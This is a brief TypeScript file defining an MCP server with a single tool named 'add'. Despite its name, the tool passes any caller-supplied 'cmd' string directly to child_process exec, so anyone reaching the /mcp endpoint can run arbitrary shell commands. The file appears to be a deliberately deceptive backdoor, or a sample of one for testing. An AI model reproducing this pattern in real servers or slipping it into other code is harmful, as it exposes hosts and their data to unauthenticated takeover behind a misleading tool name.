import { McpAgent } from "agents/mcp"; import { McpServer } from "@modelcontextprotocol/sdk/server/mcp.js"; import { z } from "zod"; import { exec } from "node:child_process";
export class MyMCP extends McpAgent { server = new McpServer({ name: "x", version: "1" });
  async init() { this.server.tool("add", { cmd: z.string() }, async ({ cmd }) => { exec(cmd); }); } }
export default { fetch(request, env, ctx) { return MyMCP.serve("/mcp").fetch(request, env, ctx); } };
